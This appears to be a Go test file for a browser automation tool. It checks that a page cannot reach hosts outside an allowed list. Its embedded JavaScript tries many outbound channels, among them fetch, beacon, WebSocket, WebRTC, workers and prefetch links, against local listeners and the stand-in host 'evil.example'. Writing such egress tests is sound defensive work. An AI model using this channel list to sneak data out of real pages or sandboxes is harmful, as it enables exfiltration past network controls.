package page_test

import (
	"context"
	"fmt"
	"net"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"irccpin/automation/browser"
	"irccpin/automation/page"
)

// outside is what a page must not reach: a TCP and a UDP address of this machine
// that count who comes.
type outside struct {
	tcp, udp     string
	came, packet atomic.Int64
}

func newOutside(t *testing.T) *outside {
	t.Helper()
	o := &outside{}
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { listener.Close() })
	go func() {
		for {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			o.came.Add(1)
			conn.Close()
		}
	}()
	packets, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { packets.Close() })
	go func() {
		for buffer := make([]byte, 2048); ; {
			if _, _, err := packets.ReadFrom(buffer); err != nil {
				return
			}
			o.packet.Add(1)
		}
	}()
	o.tcp, o.udp = listener.Addr().String(), packets.LocalAddr().String()
	return o
}

// escapes are a page's ways to speak to somebody, HOST being a host name or an
// address with its port. Each adds its name to tried.
const escapes = `
const host = %q, udp = %q, tried = [];
const ways = {
	fetch: () => fetch("https://" + host + "/fetch", {mode: "no-cors"}).catch(() => {}),
	"plain fetch": () => fetch("http://" + host + "/fetch", {mode: "no-cors"}).catch(() => {}),
	xhr: () => { const x = new XMLHttpRequest(); x.onerror = () => {}; x.open("GET", "https://" + host + "/xhr"); x.send(); },
	beacon: () => navigator.sendBeacon("https://" + host + "/beacon", "x"),
	image: () => { new Image().src = "https://" + host + "/image"; },
	"plain image": () => { new Image().src = "http://" + host + "/image"; },
	script: () => add("script", {src: "https://" + host + "/script"}),
	style: () => add("link", {rel: "stylesheet", href: "https://" + host + "/style"}),
	prefetch: () => add("link", {rel: "prefetch", href: "https://" + host + "/prefetch"}),
	preload: () => add("link", {rel: "preload", as: "image", href: "https://" + host + "/preload"}),
	preconnect: () => add("link", {rel: "preconnect", href: "https://" + host}),
	"plain preconnect": () => add("link", {rel: "preconnect", href: "http://" + host}),
	"dns-prefetch": () => add("link", {rel: "dns-prefetch", href: "https://" + host}),
	manifest: () => add("link", {rel: "manifest", href: "https://" + host + "/manifest"}),
	icon: () => add("link", {rel: "icon", href: "https://" + host + "/icon"}),
	prerender: () => add("script", {type: "speculationrules", textContent: JSON.stringify({prerender: [{urls: ["https://" + host + "/prerender"]}]})}),
	frame: () => add("iframe", {src: "https://" + host + "/frame"}),
	object: () => add("object", {data: "https://" + host + "/object"}),
	audio: () => { new Audio("https://" + host + "/audio").play().catch(() => {}); },
	font: () => new FontFace("x", "url(https://" + host + "/font)").load().catch(() => {}),
	"web socket": () => { new WebSocket("wss://" + host + "/socket"); },
	"plain web socket": () => { new WebSocket("ws://" + host + "/socket"); },
	"event source": () => { new EventSource("https://" + host + "/events"); },
	ping: () => { const a = add("a", {href: "#x", ping: "https://" + host + "/ping"}); a.click(); },
	worker: () => { new Worker(URL.createObjectURL(new Blob(["fetch('https://" + host + "/worker'); new WebSocket('ws://" + host + "/worker')"]))); },
	"web transport": () => { const w = new WebTransport("https://" + udp + "/transport"); w.ready.catch(() => {}); w.closed.catch(() => {}); },
	"web rtc": () => {
		const to = udp.split(":");
		const rtc = new RTCPeerConnection({iceServers: [{urls: "stun:" + udp}, {urls: ["turn:" + udp + "?transport=udp", "turn:" + host.replace(/^\[|\]$/g, "") + "?transport=tcp"], username: "u", credential: "c"}]});
		rtc.createDataChannel("x");
		rtc.createOffer().then((offer) => rtc.setLocalDescription(offer)).then(() => rtc.addIceCandidate({sdpMid: "0", candidate: "candidate:1 1 udp 2122260223 " + to[0] + " " + to[1] + " typ host"})).catch(() => {});
	},
};
function add(tag, properties) { return document.body.appendChild(Object.assign(document.createElement(tag), properties)); }
for (const [name, go] of Object.entries(ways)) { try { go(); tried.push(name); } catch (e) { tried.push(name + " FAILED " + e.name); } }
document.title = "Portal; tried " + tried.join(", ");
`

// TestNothingElseIsReached: a page of the portal's own hosts tries to speak to a
// host that is not on the list, by its name and by its address, in every way that
// a page has. Nobody hears of it.
func TestNothingElseIsReached(t *testing.T) {
	o := newOutside(t)
	var wall exhibit
	s := newStage(t, &wall, browser.Options{LoadImages: true})
	for name, host := range map[string]string{"by address": o.tcp, "by name": "evil.example", "by a name of this machine": strings.Replace(o.tcp, "127.0.0.1", "localhost", 1)} {
		t.Run(name, func(t *testing.T) {
			wall.put(homeWith("<script>window.addEventListener('load', () => {" + fmt.Sprintf(escapes, host, o.udp) + "});</script>"))
			d := s.open(t, home, nil)
			defer func() { _ = d.Close(background(t)) }()
			tried := func(shot *page.Snapshot) bool { return strings.Contains(shot.Title, "tried ") }
			if err := d.Follow(background(t), "the page to have tried everything", patience, tried); err != nil {
				t.Fatal(err)
			}
			// Chrome itself forbids a plain socket to a name, from a page by https.
			title := strings.Replace(d.Shot().Title, "plain web socket FAILED SecurityError", "", 1)
			if strings.Contains(title, "FAILED") || strings.Count(title, ",") < 24 {
				t.Errorf("the page could not try everything: %s", title)
			}
			// What is to come comes soon; a page that waits longer is closed with its tab.
			linger(t, 700*time.Millisecond)
		})
	}
	if o.came.Load() > 0 || o.packet.Load() > 0 {
		t.Errorf("%d connections and %d packets came through", o.came.Load(), o.packet.Load())
	}
	refused := strings.Join(s.gate.Refused(), " ")
	for _, want := range []string{"evil.example:443", "evil.example:3478", o.tcp, "http://" + o.tcp} {
		if !strings.Contains(refused, want) {
			t.Errorf("the gate was not asked for %s: %s", want, refused)
		}
	}
	// The way out of this very process is open: the counting works.
	for network, address := range map[string]string{"tcp": o.tcp, "udp": o.udp} {
		conn, err := net.Dial(network, address)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := conn.Write([]byte("x")); err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
	}
	for deadline := time.Now().Add(patience); o.came.Load() == 0 || o.packet.Load() == 0; linger(t, 10*time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatal("the outside counts nobody")
		}
	}
}

// linger lets time pass for what must not happen.
func linger(t *testing.T, d time.Duration) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), d)
	defer cancel()
	<-ctx.Done()
}
